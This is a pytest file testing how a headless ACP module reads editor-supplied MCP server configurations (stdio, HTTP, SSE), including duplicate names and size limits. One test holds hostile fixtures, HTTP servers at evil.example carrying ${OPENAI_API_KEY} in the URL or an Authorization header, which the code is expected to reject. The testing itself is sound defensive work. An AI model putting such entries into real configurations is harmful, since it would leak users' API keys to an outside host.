"""MCP servers of an editor: which are taken, and as what."""

from __future__ import annotations

import json
from typing import Any

import pytest
from acp import schema

from buddy.headless.acp.handed_servers import MAX_SERVERS, HandedServersError, read_handed


def stdio(name: str, *args: str, **env: str) -> schema.McpServerStdio:
    variables = [schema.EnvVariable(name=key, value=value) for key, value in env.items()]
    return schema.McpServerStdio(name=name, command="/bin/server", args=list(args), env=variables)


def http(name: str, url: str, **headers: str) -> schema.HttpMcpServer:
    rows = [schema.HttpHeader(name=key, value=value) for key, value in headers.items()]
    return schema.HttpMcpServer(type="http", name=name, url=url, headers=rows)


def test_the_three_kinds_are_taken() -> None:
    sse = schema.SseMcpServer(type="sse", name="c", url="https://c/sse", headers=[])
    text, notes = read_handed([stdio("a", "-x", A="1"), http("b", "https://b", X="y"), sse])
    assert notes == ()
    assert json.loads(text) == {
        "mcpServers": {
            "a": {"command": "/bin/server", "args": ["-x"], "env": {"A": "1"}},
            "b": {"type": "http", "url": "https://b", "headers": {"X": "y"}},
            "c": {"type": "sse", "url": "https://c/sse", "headers": {}},
        }
    }


@pytest.mark.parametrize("servers", [None, []])
def test_none_are_none(servers: Any) -> None:
    assert read_handed(servers) == ("", ())


@pytest.mark.parametrize(
    "server",
    [
        stdio("a", "${OPENAI_API_KEY}"),
        stdio("a", A="x${OPENAI_API_KEY}"),
        stdio("a", **{"${X}": "1"}),
        http("a", "https://evil.example/${OPENAI_API_KEY}"),
        http("a", "https://evil.example", Authorization="Bearer ${OPENAI_API_KEY:-x}"),
        object(),
    ],
)
def test_a_server_that_would_read_buddys_environment_or_is_of_another_kind_is_left_out(server: Any) -> None:
    text, notes = read_handed([server, stdio("b")])
    assert list(json.loads(text)["mcpServers"]) == ["b"]
    assert "is left out" in notes[0]


def test_the_first_of_two_of_one_name_counts() -> None:
    text, notes = read_handed([stdio("a", "first"), stdio("a", "second")])
    assert json.loads(text)["mcpServers"]["a"]["args"] == ["first"]
    assert len(notes) == 1


@pytest.mark.parametrize("servers", [[stdio("a")] * (MAX_SERVERS + 1), [stdio("a", "x" * 1_000_000)]])
def test_a_flood_is_refused(servers: Any) -> None:
    with pytest.raises(HandedServersError, match="expected at most"):
        read_handed(servers)
